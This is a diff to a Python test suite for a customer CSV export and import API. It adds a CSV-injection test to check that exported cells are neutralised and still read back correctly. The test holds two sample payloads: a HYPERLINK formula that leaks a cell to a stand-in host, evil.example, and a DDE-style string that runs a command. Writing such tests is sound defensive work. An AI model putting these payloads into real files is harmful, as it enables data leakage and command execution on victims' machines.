@@ -146,7 +146,9 @@ def test_the_csv_export_holds_exactly_what_the_caller_may_see(api):
     assert chunks[0].data.decode().splitlines()[0] == "display_name,phone"
     assert chunks[-1].row_count == 3
     assert sorted(rows, key=lambda r: r["display_name"]) == [
-        {"display_name": f"东{i}", "phone": f"+861380000000{i}"} for i in range(3)
+        # A leading + would be a formula to a spreadsheet: the cell is marked as text.
+        {"display_name": f"东{i}", "phone": f"'+861380000000{i}"}
+        for i in range(3)
     ]
 
     log = (
@@ -194,6 +196,50 @@ def test_the_csv_export_reads_back_as_an_import(api):
         copy.individual.gender,
         copy.individual.age,
     ) == ("韩梅梅", "+8613912345678", "han@example.com", customer_pb2.GENDER_FEMALE, 30)
+
+
+def test_no_exported_cell_runs_as_a_formula_and_the_file_still_reads_back(api):
+    """CSV injection (OWASP): whoever opens the export in a spreadsheet must not run what a
+    customer's name or notes say; the import reads the marked cells back as they were."""
+    stub, _ = api
+    name = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")'
+    needs = "@SUM(1+1)*cmd|' /C calc'!A0"
+    _create(stub, REP_EAST, name, phone="13912345678", needs=needs, source_detail="-2+3")
+    columns = ["display_name", "phone", "needs", "source_detail"]
+    exported = b"".join(
+        chunk.data
+        for chunk in stub(REP_EAST).ExportCustomers(
+            customer_pb2.ExportCustomersRequest(columns=columns)
+        )
+    )
+    assert list(csv.DictReader(io.StringIO(exported.decode()))) == [
+        {
+            "display_name": "'" + name,
+            "phone": "'+8613912345678",
+            "needs": "'" + needs,
+            "source_detail": "'-2+3",
+        }
+    ]
+
+    header, row, _end = exported.decode().split("\r\n")
+    report = stub(REP_NORTH).ImportCustomers(
+        customer_pb2.ImportCustomersRequest(
+            csv_content=f"type,{header}\r\nindividual,{row}\r\n".encode(),
+            duplicate_handling=customer_pb2.DUPLICATE_HANDLING_CREATE,
+        )
+    )
+    assert [(row.status, list(row.errors)) for row in report.rows] == [
+        (customer_pb2.IMPORT_ROW_STATUS_IMPORTED, [])
+    ]
+    copy = stub(REP_NORTH).GetCustomer(
+        customer_pb2.GetCustomerRequest(id=report.rows[0].customer_id)
+    )
+    assert (copy.display_name, copy.phone, copy.needs, copy.source_detail) == (
+        name,
+        "+8613912345678",
+        needs,
+        "-2+3",
+    )
 
 
 def test_an_unknown_column_is_refused(api):
